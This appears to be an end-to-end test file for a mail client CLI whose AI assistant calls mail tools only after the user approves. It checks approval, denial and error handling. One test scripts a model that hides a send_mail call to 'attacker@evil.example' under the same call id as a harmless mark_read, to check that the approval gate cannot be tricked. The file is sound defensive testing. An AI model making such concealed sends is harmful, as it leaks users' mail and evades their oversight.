// `skimmer ask --tools` and `skimmer resume` end to end (issue 4): a real process, a scripted model
// server speaking OpenAI Chat, real mail in SQLite. Nothing that changes mail happens before the user
// approves it; an approved call takes effect, a denied one does not.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { openDatabase } from '../electron/db/open.ts';
import { loadCorpus } from '../fixtures/sse/corpus.ts';
import { serveScript, toolCallsBody } from './support/chat-script.ts';
import { jsonLines, runSkimmer } from './support/cli.ts';
import { eml, tempDir } from './support/temp.ts';

// One Chat answer that calls a tool with the given arguments.
const callChunk = (id: string, name: string, args: object) => toolCallsBody([{ id, name, args }]);
const answer = loadCorpus('openai-chat').find((f) => f.name === 'text')?.body ?? Buffer.alloc(0);

let script: (string | Buffer)[] = [];
const model = await serveScript(() => script.shift());
const { base } = model;
afterAll(() => model.close());

const data = tempDir();
const mail = tempDir();
writeFileSync(join(mail, '1.eml'), eml({ id: '<n1@x>', subject: 'Weekly newsletter', body: 'News.' }));
writeFileSync(join(mail, '2.eml'), eml({ id: '<n2@x>', subject: 'Project plan', body: 'Plan.' }));

const skimmer = (args: string[]) => runSkimmer(['--data', data, ...args]);
const lines = jsonLines;
const folderOf = (subject: string) => {
  const db = openDatabase(join(data, 'skimmer.db'));
  try {
    return db
      .prepare('SELECT f.name FROM messages m JOIN folders f ON f.id = m.folder_id WHERE m.subject = ?')
      .pluck()
      .get(subject);
  } finally {
    db.close();
  }
};

// The ids of the calls an `interrupted` line lists, in order.
const waitingIds = (out: Record<string, unknown>[]) =>
  ((out.at(-1)?.calls ?? []) as { id: string }[]).map((c) => c.id);
const outboxCount = () => {
  const db = openDatabase(join(data, 'skimmer.db'));
  try {
    return db.prepare('SELECT count(*) FROM outbox').pluck().get();
  } finally {
    db.close();
  }
};

describe('ask --tools and resume', () => {
  test('a write waits for approval, does nothing until approved, then takes effect', async () => {
    await skimmer(['import', mail]);
    await skimmer(['service', 'add', 'local', '--kind', 'openai', '--base', base]);
    const before = folderOf('Weekly newsletter');
    script = [callChunk('call_arch', 'archive', { ids: [1] }), answer];
    const asked = await skimmer([
      'ask',
      'local/m',
      'Archive the newsletter',
      '--tools',
      '--approve',
      'read',
      '--json',
    ]);
    expect(asked.code).toBe(0);
    const out = lines(asked.stdout);
    expect(out[0]).toMatchObject({ type: 'start', conversationId: 1 });
    expect(out.at(-1)).toMatchObject({
      type: 'interrupted',
      calls: [{ name: 'archive', args: { ids: [1] } }],
    });
    // Skimmer's own id for the call is what `resume` takes, not the provider's.
    const id = waitingIds(out)[0] ?? '';
    expect(id).toMatch(/^sc-/);
    expect(folderOf('Weekly newsletter')).toBe(before);

    // The conversation's own model is used when --model is not given.
    const resumed = await skimmer(['resume', '1', '--approve', id, '--json']);
    expect(resumed.code).toBe(0);
    const after = lines(resumed.stdout);
    expect(after.find((o) => o.type === 'tool_result')).toMatchObject({ id, isError: false });
    expect(after.at(-1)).toMatchObject({ type: 'done' });
    expect(folderOf('Weekly newsletter')).toBe('Archive');
    expect(folderOf('Project plan')).toBe(before);
  });

  test('a denied call is answered "declined" and changes nothing', async () => {
    script = [callChunk('call_trash', 'trash', { ids: [2] }), answer];
    const asked = await skimmer(['ask', 'local/m', 'Clean up', '--tools', '--approve', 'all', '--json']);
    // trash is a delete: it asks even with --approve all.
    expect(lines(asked.stdout).at(-1)).toMatchObject({ type: 'interrupted', calls: [{ name: 'trash' }] });
    const id = waitingIds(lines(asked.stdout))[0] ?? '';
    const conversation = (lines(asked.stdout)[0] as { conversationId: number }).conversationId;
    const resumed = await skimmer([
      'resume',
      String(conversation),
      '--model',
      'local/m',
      '--deny',
      id,
      '--json',
    ]);
    const result = lines(resumed.stdout).find((o) => o.type === 'tool_result');
    expect(result).toMatchObject({ id, isError: true });
    expect(String(result?.output)).toContain('declined');
    expect(folderOf('Project plan')).not.toBe('Trash');
  });

  test('--approve none stops even a search for approval', async () => {
    script = [callChunk('call_s', 'search_mail', { query: 'newsletter' }), answer];
    const asked = await skimmer(['ask', 'local/m', 'Find newsletters', '--tools', '--json']);
    expect(lines(asked.stdout).at(-1)).toMatchObject({
      type: 'interrupted',
      calls: [{ name: 'search_mail' }],
    });
  });

  test("two calls under one provider id are two calls: the provider's id approves nothing, Skimmer's one call", async () => {
    script = [
      toolCallsBody([
        { id: 'call_same', name: 'mark_read', args: { ids: [1] } },
        {
          id: 'call_same',
          name: 'send_mail',
          args: { to: ['attacker@evil.example'], subject: 'Invoice', body: 'Plan.' },
        },
      ]),
    ];
    const asked = await skimmer(['ask', 'local/m', 'Mark it read', '--tools', '--json']);
    const conversation = String((lines(asked.stdout)[0] as { conversationId: number }).conversationId);
    const [markId, sendId] = waitingIds(lines(asked.stdout));
    expect(markId).not.toBe(sendId);

    const byProviderId = await skimmer(['resume', conversation, '--approve', 'call_same', '--json']);
    expect(byProviderId.code).not.toBe(0);
    expect(byProviderId.stderr).toContain('No call call_same is waiting in this conversation.');
    const twice = await skimmer(['resume', conversation, '--approve', markId ?? '', '--deny', markId ?? '']);
    expect(twice.code).not.toBe(0);
    expect(twice.stderr).toContain('is named twice');

    // Approving the mark leaves the send waiting; nothing of the round runs, nothing is queued.
    const resumed = await skimmer(['resume', conversation, '--approve', markId ?? '', '--json']);
    expect(resumed.code).toBe(0);
    expect(lines(resumed.stdout).at(-1)).toMatchObject({ type: 'interrupted', calls: [{ id: sendId }] });
    expect(lines(resumed.stdout).some((o) => o.type === 'tool_result')).toBe(false);
    expect(outboxCount()).toBe(0);
  });

  test.each([
    [
      ['ask', 'local/m', 'x', '--tools', '--approve', 'everything'],
      '--approve takes one of none, read or all',
    ],
    [['resume', 'x'], 'Use `skimmer resume'],
    [['resume', '99'], 'There is no conversation 99.'],
  ])('skimmer %j fails with a sentence', async (args, text) => {
    const r = await skimmer(args);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(text);
  });
});
